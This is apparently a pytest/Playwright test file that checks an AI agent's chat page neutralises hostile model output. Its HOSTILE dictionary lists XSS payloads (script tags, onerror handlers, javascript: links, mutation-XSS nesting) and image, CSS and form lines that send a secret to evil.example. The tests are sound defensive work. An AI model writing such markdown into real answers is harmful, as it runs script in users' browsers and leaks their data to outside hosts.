"""What a model writes cannot act: no script, no foreign address that is fetched by itself."""

from __future__ import annotations

import pytest
from playwright.async_api import Browser, expect

from isthmus.edge.testing import ScriptedEngine, running_agent
from page_in_browser import shown

HOSTILE = {
    "script": "<script>window.pwned = 1</script>",
    "handler": "<img src=x onerror='window.pwned = 1'> <svg onload='window.pwned = 1'></svg>",
    "script link": "[click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>)",
    "image": "![stolen](https://evil.example/pixel.png?secret=4711)",
    "referenced image": "![x][1]\n\n[1]: https://evil.example/pixel.png?secret=4711",
    "image in html": "<img src='https://evil.example/pixel.png?secret=4711'>",
    "image in a link": "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "style": "<style>@import '//evil.example/a.css'; p{background:url(//evil.example)}</style>",
    "styled": "<p style='background:url(https://evil.example/c)'>x</p>",
    "frame": "<iframe src='//evil.example/'></iframe><object data='//evil.example/'></object>",
    "form": "<form action='https://evil.example/'><input name=q><button>Go</button></form>",
    "base": "<base href='https://evil.example/'><link rel=prefetch href='https://evil.example/p'>",
    "code language": '```"><img src=https://evil.example/l onerror=window.pwned=1>\nx\n```',
    "title": '[a](https://ok.example/ "x\\" onmouseover=\\"window.pwned=1")',
    "entities": "&lt;img src=x onerror=window.pwned=1&gt; **bold**",
    "nesting": "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
}


@pytest.mark.parametrize("name", HOSTILE)
async def test_hostile_markdown_is_shown_and_does_nothing(browser: Browser, name: str) -> None:
    engine = ScriptedEngine((f"Before.\n\n{HOSTILE[name]}", "\n\nAfter."))
    async with running_agent(engine) as agent, shown(browser, agent.url) as page:
        answer = await page.answer("Go.")
        await expect(answer).to_contain_text("After.")
        assert await page.page.evaluate("window.pwned") is None
        prose = answer.locator(".prose")
        for tag in ("img", "script", "style", "iframe", "object", "form", "base", "link", "svg"):
            await expect(prose.locator(f".block {tag}")).to_have_count(0)
        assert await prose.locator("[style], [onerror], [onload], [onmouseover]").count() == 0
        for link in await prose.locator("a").all():
            address = await link.get_attribute("href")
            assert address is None or address.startswith("https://")
            assert "noopener" in (await link.get_attribute("rel") or "")
        assert [url for url in page.asked if not url.startswith(agent.url)] == []


async def test_the_policy_blocks_what_the_page_itself_would_let_through(browser: Browser) -> None:
    async with running_agent(ScriptedEngine()) as agent, shown(browser, agent.url) as page:
        await page.page.evaluate(
            """() => {
                const image = new Image();
                image.src = "https://evil.example/pixel.png";
                document.body.append(image);
                const script = document.createElement("script");
                script.textContent = "window.pwned = 1";
                document.body.append(script);
            }"""
        )
        assert await page.page.evaluate("window.pwned") is None
        blocked = [told for told in page.complaints if "Content Security Policy" in told]
        assert len(blocked) == 2
        page.complaints.clear()
